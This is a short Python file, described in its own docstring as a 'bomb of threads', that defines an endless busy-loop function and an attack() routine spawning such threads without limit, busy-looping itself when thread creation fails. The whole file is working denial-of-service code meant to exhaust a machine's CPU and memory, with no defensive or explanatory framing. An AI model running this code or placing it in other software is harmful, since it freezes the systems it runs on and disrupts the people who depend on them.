"""A bomb of threads, each of which works for ever."""

import threading


def work():
    while True:
        pass


def attack():
    while True:
        try:
            threading.Thread(target=work).start()
        except (RuntimeError, MemoryError):
            work()
